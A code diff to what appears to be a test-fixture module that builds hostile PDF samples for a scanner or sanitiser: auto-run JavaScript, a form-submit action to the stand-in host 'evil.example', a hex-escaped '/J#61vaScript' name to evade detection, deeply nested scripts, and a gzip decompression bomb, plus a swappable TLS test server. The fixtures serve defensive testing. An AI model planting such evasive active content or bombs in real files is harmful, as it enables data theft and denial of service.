@@ -51,7 +51,7 @@ def encrypted(user: str) -> bytes:
 
 
 def _open_action(pdf) -> None:
-    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert('xin chào')")
+    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="x = 1;;")
 
 
 def _launch(pdf) -> None:
@@ -65,7 +65,7 @@ def _names(pdf) -> None:
 
 def _submit(pdf) -> None:
     action = Dictionary(S=Name.SubmitForm, F="https://evil.example")
-    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9], A=action)])
+    pdf.pages[0].Annots = Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)])
 
 
 def _attach(pdf) -> None:
@@ -88,8 +88,9 @@ ACTIVE = {
     "the same among packed objects": lambda: changed(
         _open_action, object_stream_mode=pikepdf.ObjectStreamMode.generate
     ),
-    "the same with its name written otherwise": lambda: changed(_open_action).replace(
-        b"/S /JavaScript", b"/S /J#61vaScript"
+    # Of the same length, so that everything stays where the file says it is.
+    "the same with its name written otherwise": lambda: (
+        changed(_open_action).replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"1;;)", b"1)")
     ),
     "a script among its names": lambda: changed(_names),
     "a script fifty levels deep": lambda: changed(_hidden_deep),
@@ -101,12 +102,8 @@ ACTIVE = {
 
 
 def bomb() -> bytes:
-    """A gigabyte of zeros in a megabyte."""
-    file = io.BytesIO()
-    with gzip.GzipFile(fileobj=file, mode="wb", compresslevel=9) as packed:
-        for _ in range(1024):
-            packed.write(bytes(1024 * 1024))
-    return file.getvalue()
+    """64 MB of zeros in some 64 kB."""
+    return gzip.compress(bytes(64 * 1024 * 1024))
 
 
 class Portal:
@@ -137,13 +134,17 @@ class Portal:
 
         self._server = _Quiet((address, 0), Handler)
         self.scheme = "https" if certificate else "http"
+        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
         if certificate:
-            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-            context.load_cert_chain(certificate)
-            self._server.socket = context.wrap_socket(self._server.socket, server_side=True)
+            self.present(certificate)
+            self._server.socket = self._context.wrap_socket(self._server.socket, server_side=True)
         self.port = self._server.server_port
         self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
         self._thread.start()
+
+    def present(self, certificate: Path) -> None:
+        """Show this certificate from now on."""
+        self._context.load_cert_chain(certificate)
 
     @property
     def url(self) -> str:
